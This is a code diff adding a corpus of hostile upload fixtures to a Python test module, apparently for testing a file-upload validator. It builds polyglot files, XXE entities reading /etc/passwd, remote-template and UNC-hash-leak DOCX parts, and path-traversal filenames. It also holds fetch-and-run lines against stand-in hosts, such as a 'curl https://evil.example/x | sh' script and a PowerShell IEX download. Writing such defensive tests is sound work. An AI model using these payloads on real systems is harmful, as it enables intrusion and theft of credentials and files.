@@ -13,6 +13,7 @@ import random
 import struct
 import zipfile
 import zlib
+from collections.abc import Callable
 from typing import NoReturn
 
 from PIL import Image
@@ -365,3 +366,326 @@ def elf_bytes() -> bytes:
     header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, base + header_size, 64, 0, 0, 64, 56, 1, 64, 0, 0)
     program = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, header_size + len(code), header_size + len(code), 0x1000)
     return header + program + code
+
+
+# --- the hostile corpus (A8, issue 12 item 7) ------------------------------------------------------------------
+#
+# Files that start like what their extension says, so a signature check alone lets them through: each must be
+# refused by a deeper check (the format must parse, no second format inside, no active or external content).
+
+
+def _png_with_chunk(kind: bytes, data: bytes) -> bytes:
+    base = sample_bytes(".png")
+    return base[:-12] + _png_chunk(kind, data) + base[-12:]
+
+
+def _noisy_image(fmt: str, size: int = 64) -> bytes:
+    """A noisy image (compresses badly), so truncating it cuts into the pixel data."""
+    rng = random.Random(7)
+    image = Image.new("RGB", (size, size))
+    image.putdata([(rng.randrange(256), rng.randrange(256), rng.randrange(256)) for _ in range(size * size)])
+    out = io.BytesIO()
+    image.save(out, fmt)
+    return out.getvalue()
+
+
+def jpeg_zip_polyglot() -> bytes:
+    """A JPEG with a ZIP archive appended: an image to a viewer, a .jar / archive to anything that reads the end."""
+    return sample_bytes(".jpg") + _zip([("Payload.class", b"\xca\xfe\xba\xbe" + bytes(40))])
+
+
+def png_html_polyglot() -> bytes:
+    """A valid PNG whose text chunk is a web page with script (served as HTML by a sniffing browser)."""
+    return _png_with_chunk(b"tEXt", b"Comment\x00<html><script>alert(document.cookie)</script></html>")
+
+
+def pdf_zip_polyglot() -> bytes:
+    return _pdf() + _zip([("evil.exe", exe_bytes())])
+
+
+def truncated_jpeg() -> bytes:
+    data = _noisy_image("JPEG")
+    return data[: len(data) // 2]
+
+
+def truncated_png() -> bytes:
+    data = _noisy_image("PNG")
+    return data[: len(data) // 2]
+
+
+def corrupt_png() -> bytes:
+    """Pixel data altered after the checksum was written (what a damaged download looks like)."""
+    data = bytearray(_noisy_image("PNG"))
+    idat = data.find(b"IDAT")
+    for i in range(idat + 40, idat + 80):
+        data[i] ^= 0x5A
+    return bytes(data)
+
+
+def broken_bmp() -> bytes:
+    """The 'BM' signature and a file header, then noise where the bitmap header should be."""
+    return b"BM" + struct.pack("<IHHI", 4000, 0, 0, 54) + random.Random(5).randbytes(3986)
+
+
+def truncated_bmp() -> bytes:
+    data = _noisy_image("BMP")
+    return data[: len(data) // 2]
+
+
+def bmp_bomb() -> bytes:
+    """A 58-byte BMP header declaring 30,000 × 30,000 pixels (900 million): a decompression bomb."""
+    header = struct.pack("<IiiHHIIiiII", 40, 30_000, 30_000, 1, 24, 0, 0, 2835, 2835, 0, 0)
+    return b"BM" + struct.pack("<IHHI", 14 + len(header) + 4, 0, 0, 14 + len(header)) + header + bytes(4)
+
+
+def broken_tiff() -> bytes:
+    """The TIFF signature with an image directory offset that points past the end of the file."""
+    return b"II*\x00" + struct.pack("<I", 1_000_000) + random.Random(6).randbytes(500)
+
+
+def truncated_tiff() -> bytes:
+    data = _noisy_image("TIFF")
+    return data[: len(data) // 2]
+
+
+def pdf_garbage() -> bytes:
+    """A PDF header followed by noise: no objects, no cross-reference table, no trailer."""
+    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random.Random(4).randbytes(4000)
+
+
+def truncated_pdf() -> bytes:
+    data = _pdf()
+    return data[: len(data) // 2]
+
+
+def macho_bytes() -> bytes:
+    """The header of a 64-bit macOS (Mach-O) executable."""
+    return b"\xcf\xfa\xed\xfe" + struct.pack("<iiIIII", 0x01000007, 3, 2, 0, 0, 0) + bytes(400)
+
+
+def jar_bytes() -> bytes:
+    """A Java archive: a ZIP with a manifest naming a main class."""
+    return _zip([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Payload\n"), ("Payload.class", b"x")])
+
+
+def shebang_bytes() -> bytes:
+    return b"#!/usr/bin/env python3\nimport os\nos.system('curl https://evil.example/x | sh')\n"
+
+
+def batch_script_bytes() -> bytes:
+    """A Windows batch script: no '#!', no signature, just commands."""
+    return (
+        b"@echo off\r\n"
+        + b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('x')\"\r\n" * 20
+    )
+
+
+_DTD = b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'
+DOCX_STYLES = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    b'<w:style w:type="paragraph" w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>'
+)
+DOCX_DOCUMENT_RELS_NS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _rels(*relationships: str) -> bytes:
+    return (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        + DOCX_DOCUMENT_RELS_NS
+        + "".join(relationships).encode()
+        + b"</Relationships>"
+    )
+
+
+def docx_dtd_in_styles() -> bytes:
+    """The entity attack moved out of document.xml, into a part a check of document.xml alone never reads."""
+    styles = _DTD + b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&e;</w:styles>'
+    return docx_bytes(extra=[("word/styles.xml", styles)])
+
+
+def docx_xxe_in_core_properties() -> bytes:
+    core = _DTD + (
+        b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
+        b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&e;</dc:title></cp:coreProperties>'
+    )
+    return docx_bytes(extra=[("docProps/core.xml", core)])
+
+
+def docx_dtd_in_rels() -> bytes:
+    rels = _DTD + DOCX_DOCUMENT_RELS_NS + b"</Relationships>"
+    return docx_bytes(extra=[("word/_rels/document.xml.rels", rels)])
+
+
+def docx_external_relationship() -> bytes:
+    """A picture linked, not embedded: Word fetches it from the attacker's server when the document opens."""
+    rels = _rels(
+        f'<Relationship Id="rId9" Type="{_REL}image" Target="http://tracker.example/p.png" TargetMode="External"/>'
+    )
+    return docx_bytes(extra=[("word/_rels/document.xml.rels", rels), ("word/styles.xml", DOCX_STYLES)])
+
+
+def docx_unc_relationship() -> bytes:
+    """A frame whose target is a Windows share: opening it sends the reader's NTLM hash to that host."""
+    rels = _rels(f'<Relationship Id="rId7" Type="{_REL}frame" Target="\\\\attacker.example\\share\\x.docx"/>')
+    return docx_bytes(extra=[("word/_rels/document.xml.rels", rels)])
+
+
+def docx_remote_template() -> bytes:
+    """The template injection technique: settings.xml names a template the document downloads when opened."""
+    settings = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+        b'<w:attachedTemplate r:id="rId1"/></w:settings>'
+    )
+    rels = _rels(
+        f'<Relationship Id="rId1" Type="{_REL}attachedTemplate" Target="https://evil.example/t.dotm" '
+        'TargetMode="External"/>'
+    )
+    return docx_bytes(extra=[("word/settings.xml", settings), ("word/_rels/settings.xml.rels", rels)])
+
+
+def docx_embedded_ole() -> bytes:
+    """An OLE object (an 'Equation' or a packaged executable) embedded in the document."""
+    rels = _rels(f'<Relationship Id="rId5" Type="{_REL}oleObject" Target="embeddings/oleObject1.bin"/>')
+    return docx_bytes(
+        extra=[
+            ("word/_rels/document.xml.rels", rels),
+            ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)),
+        ]
+    )
+
+
+def docx_hyperlink() -> bytes:
+    """A legitimate document with a web link: hyperlinks are followed only on a click, so they are accepted."""
+    rels = _rels(
+        f'<Relationship Id="rId3" Type="{_REL}hyperlink" Target="https://www.irs.gov/" TargetMode="External"/>'
+        f'<Relationship Id="rId4" Type="{_REL}styles" Target="styles.xml"/>'
+    )
+    return docx_bytes(extra=[("word/_rels/document.xml.rels", rels), ("word/styles.xml", DOCX_STYLES)])
+
+
+ODT_STYLES = (
+    b'<?xml version="1.0" encoding="UTF-8"?>\n'
+    b'<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    b'office:version="1.2"><office:styles/></office:document-styles>'
+)
+
+
+def _odt(
+    content_xml: bytes = ODT_CONTENT, extra: list[tuple[str, bytes]] | None = None, manifest: bytes = ODT_MANIFEST
+):
+    return _zip(
+        [
+            ("mimetype", b"application/vnd.oasis.opendocument.text"),
+            ("META-INF/manifest.xml", manifest),
+            ("content.xml", content_xml),
+            *(extra or []),
+        ],
+        stored=frozenset({"mimetype"}),
+    )
+
+
+def odt_with_styles() -> bytes:
+    """A legitimate .odt with a styles part (every part is parsed, so this must still pass)."""
+    return _odt(extra=[("styles.xml", ODT_STYLES)])
+
+
+def odt_dtd_in_styles() -> bytes:
+    styles = _DTD + b'<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&e;'
+    return _odt(extra=[("styles.xml", styles + b"</office:document-styles>")])
+
+
+def odt_embedded_object() -> bytes:
+    """An embedded sub-document ("Object 1/", a chart or OLE object run by its own engine), as LibreOffice writes."""
+    manifest = ODT_MANIFEST.replace(
+        b"</manifest:manifest>",
+        b'<manifest:file-entry manifest:full-path="Object 1/" '
+        b'manifest:media-type="application/vnd.oasis.opendocument.chart"/></manifest:manifest>',
+    )
+    return _odt(extra=[("Object 1/content.xml", ODT_CONTENT)], manifest=manifest)
+
+
+def odt_ole_element() -> bytes:
+    content = ODT_CONTENT.replace(
+        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"',
+        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+        b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+        b'xmlns:xlink="http://www.w3.org/1999/xlink"',
+    ).replace(b"</text:p>", b'<draw:frame><draw:object-ole xlink:href="./Obj1"/></draw:frame></text:p>')
+    return _odt(content)
+
+
+def odt_remote_image() -> bytes:
+    content = ODT_CONTENT.replace(
+        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"',
+        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+        b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+        b'xmlns:xlink="http://www.w3.org/1999/xlink"',
+    ).replace(
+        b"</text:p>", b'<draw:frame><draw:image xlink:href="http://tracker.example/p.png"/></draw:frame></text:p>'
+    )
+    return _odt(content)
+
+
+def odt_macro() -> bytes:
+    return _odt(extra=[("Basic/Standard/Module1.xml", b'<?xml version="1.0"?><module name="Module1"/>')])
+
+
+def rtf_with_object() -> bytes:
+    """An RTF embedding an OLE object (how the Equation Editor exploits were delivered)."""
+    return rb"{\rtf1\ansi{\object\objemb{\*\objclass Equation.3}{\*\objdata 0105000002000000}}}"
+
+
+# id → (file name, builder). Each is refused by a check deeper than the signature; test_uploads names why.
+HOSTILE_FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "jpeg+zip polyglot": ("photo.jpg", jpeg_zip_polyglot),
+    "png+html polyglot": ("photo.png", png_html_polyglot),
+    "pdf+zip polyglot": ("letter.pdf", pdf_zip_polyglot),
+    "truncated jpeg": ("photo.jpg", truncated_jpeg),
+    "truncated png": ("photo.png", truncated_png),
+    "corrupt png": ("photo.png", corrupt_png),
+    "bmp that does not parse": ("scan.bmp", broken_bmp),
+    "truncated bmp": ("scan.bmp", truncated_bmp),
+    "bmp decompression bomb": ("scan.bmp", bmp_bomb),
+    "tiff that does not parse": ("scan.tiff", broken_tiff),
+    "truncated tiff": ("scan.tiff", truncated_tiff),
+    "pdf header + garbage": ("letter.pdf", pdf_garbage),
+    "truncated pdf": ("letter.pdf", truncated_pdf),
+    "pe as raw": ("IMG_0001.raw", exe_bytes),
+    "elf as raw": ("IMG_0001.raw", elf_bytes),
+    "mach-o as raw": ("IMG_0001.raw", macho_bytes),
+    "shebang as raw": ("IMG_0001.raw", shebang_bytes),
+    "batch script as raw": ("IMG_0001.raw", batch_script_bytes),
+    "jar as raw": ("IMG_0001.raw", jar_bytes),
+    "docx dtd in styles.xml": ("letter.docx", docx_dtd_in_styles),
+    "docx xxe in core.xml": ("letter.docx", docx_xxe_in_core_properties),
+    "docx dtd in rels": ("letter.docx", docx_dtd_in_rels),
+    "docx external relationship": ("letter.docx", docx_external_relationship),
+    "docx unc relationship": ("letter.docx", docx_unc_relationship),
+    "docx remote attachedTemplate": ("letter.docx", docx_remote_template),
+    "docx embedded ole": ("letter.docx", docx_embedded_ole),
+    "odt dtd in styles.xml": ("letter.odt", odt_dtd_in_styles),
+    "odt embedded object": ("letter.odt", odt_embedded_object),
+    "odt draw:object-ole": ("letter.odt", odt_ole_element),
+    "odt remote image": ("letter.odt", odt_remote_image),
+    "odt macro": ("letter.odt", odt_macro),
+    "rtf embedded object": ("letter.rtf", rtf_with_object),
+}
+
+# Names as a client may send them, each of which Django's multipart parser would rewrite (or, for U+2215 and
+# U+FF0F, a look-alike slash it leaves alone); every one must be refused, never stored under a repaired name.
+HOSTILE_NAMES: dict[str, str] = {
+    "parent path": "../../etc/passwd.txt",
+    "nul": "invoice.php\x00.pdf",
+    "bidi override": "invoice\u202efdp.pdf",
+    "tab": "scan\t1.pdf",
+    "windows path": "C:\\Users\\me\\scan.pdf",
+    "division slash": "..\u2215..\u2215scan.pdf",
+    "fullwidth slash": "a\uff0fb.pdf",
+    "html reference": "x&#47;..&#47;y.pdf",
+    "zero width space": "in\u200bvoice.pdf",
+    "dot dot": "..",
+}
